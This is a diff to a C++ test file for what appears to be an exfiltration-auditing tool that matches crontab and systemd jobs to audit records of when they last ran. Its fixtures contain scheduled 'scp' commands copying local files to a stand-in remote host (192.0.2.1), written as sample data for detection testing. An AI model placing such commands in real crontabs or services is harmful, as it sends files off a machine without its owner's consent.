@@ -405,6 +405,7 @@ TEST_CASE("registered: when each ran last") {
   unit.kind = "unit";
   unit.name = "a";
   unit.starts = 1;
+  unit.vouched = true;
   unit.last = 1796173400000;
   const std::vector jobs{session, unit};
   find_last_runs(found, matcher, image, {jobs, 0, 0, nullptr, {}});
@@ -458,6 +459,48 @@ TEST_CASE("registered: a line of a crontab ran last when its newest session bega
   CHECK(ran(1400, 64) == Minutes{1399, 1});  // it was not due again
 }
 
+TEST_CASE("registered: sessions tell of a line where each that was due had one") {
+  const Image image(Files{
+      {"/etc/debian_version", "12\n"},
+      {"/etc/timezone", "Etc/UTC\n"},
+      {"/etc/crontab",
+       "* * * * * root true\n2 1 * * * root scp /a b@192.0.2.1:x\n"
+       "2 1 * * * al scp /b b@192.0.2.1:x\n"},
+  });
+  const Matcher matcher(collect(image));
+  const auto ran = [&](std::vector<audit::TimeMs> times) {
+    coverage::SeenJob session;
+    session.kind = "cron";
+    session.user = "root";
+    session.starts = times.size();
+    session.last = times.back();
+    session.times = std::move(times);
+    const std::vector jobs{session};
+    auto found = find_registered(matcher.inventory(), image, auexfil::test::rules().tools);
+    find_last_runs(found, matcher, image, {jobs, 0, 0, nullptr, {}});
+    CHECK_FALSE(found.at(1).last_run);
+    return found.at(0).last_run.value_or(0);
+  };
+  constexpr audit::TimeMs kDue = 1796173320000;  // 01:02:00
+  CHECK(ran({kDue - 59000, kDue + 1000, kDue + 61000}) == 0);
+  CHECK(ran({kDue - 59000, kDue + 1000, kDue + 1001, kDue + 61000}) == kDue + 1000);
+}
+
+TEST_CASE("registered: what is said of a unit by others than process 1 is not heard") {
+  const Image image(Files{
+      {"/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/scp /e b@192.0.2.1:x\n"}});
+  const Matcher matcher(collect(image));
+  auto found = find_registered(matcher.inventory(), image, auexfil::test::rules().tools);
+  coverage::SeenJob unit;
+  unit.kind = "unit";
+  unit.name = "a";
+  unit.starts = 1;
+  unit.last = 1796173400000;
+  const std::vector jobs{unit};
+  find_last_runs(found, matcher, image, {jobs, 0, 0, nullptr, {}});
+  CHECK_FALSE(found.at(0).last_run);
+}
+
 TEST_CASE("registered: what tells of an instance tells of its template, or of its own entry") {
   const auto image = std::make_shared<Image>(Files{
       {"/etc/systemd/system/a@.service", "[Service]\nExecStart=/usr/bin/scp /%i b@192.0.2.1:x\n"},
@@ -486,6 +529,7 @@ TEST_CASE("registered: what tells of an instance tells of its template, or of it
   unit.kind = "unit";
   unit.name = "a@x";
   unit.starts = 1;
+  unit.vouched = true;
   unit.last = 1796173400000;
   const std::vector jobs{unit};
   CHECK(ran({jobs, 0, 0, nullptr, {}}) == Lines{"a@.service 1796173400", "a@y.service 0"});
